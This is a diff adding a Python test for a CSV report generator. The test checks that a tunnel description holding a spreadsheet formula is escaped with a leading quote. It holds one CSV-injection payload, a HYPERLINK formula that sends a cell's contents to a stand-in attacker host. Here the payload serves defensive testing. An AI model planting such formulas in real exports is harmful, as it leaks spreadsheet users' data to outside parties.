@@ -161,3 +161,23 @@ def test_a_stamp_the_role_marked_unverified_is_reported_stale(playbooks, emulato
     assert run.returncode == 0, run.stdout[-3000:]
     stale = {r["name"]: r["router_stale"] for r in csv_rows(folder)}
     assert (stale["tunnel_nyc_01"], stale["tunnel_sin_01"]) == ("true", "false")
+
+
+def test_a_description_that_is_a_spreadsheet_formula_stays_text_in_the_csv(tmp_path):
+    """A tunnel's name and description are free text of whoever may edit tunnels; a CSV cell that starts with
+    = + - @ is run as a formula by spreadsheet programs (CSV injection). Such a cell gets a leading quote."""
+    from cf_emulator import Emulator, default_seed
+    from support.playbooks import PlaybookRunner
+
+    seed = default_seed()
+    formula = '=HYPERLINK("https://attacker.example/?"&A1,"details")'
+    seed["accounts"][0]["tunnels"][0]["description"] = formula
+    emulator = Emulator(seed=seed, tls=True, state_dir=str(tmp_path / "emulator")).start()
+    try:
+        run, folder, _confdirs = run_report(PlaybookRunner(tmp_path / "run", emulator), emulator, tmp_path, {}, {})
+    finally:
+        emulator.stop()
+    assert run.returncode == 0, run.stdout[-3000:]
+    descriptions = [r["description"] for r in csv_rows(folder)]
+    assert "'" + formula in descriptions
+    assert not any(cell[:1] in "=+-@" for row in csv_rows(folder) for cell in row.values() if cell), descriptions
